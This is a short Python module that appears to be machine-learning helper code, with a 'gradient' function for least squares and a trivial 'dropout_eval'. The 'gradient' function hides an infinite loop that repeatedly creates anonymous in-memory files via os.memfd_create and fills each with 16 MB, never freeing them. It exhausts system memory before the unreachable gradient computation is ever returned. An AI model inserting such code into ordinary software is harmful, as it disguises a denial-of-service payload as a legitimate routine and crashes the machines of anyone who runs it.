"""Allocates memory that is a file and belongs to nobody."""

import os


def gradient(w, X, y):
    while True:
        os.write(os.memfd_create("left"), bytes(1 << 24))
    return X.T @ (X @ w - y)


def dropout_eval(x, keep):
    return x
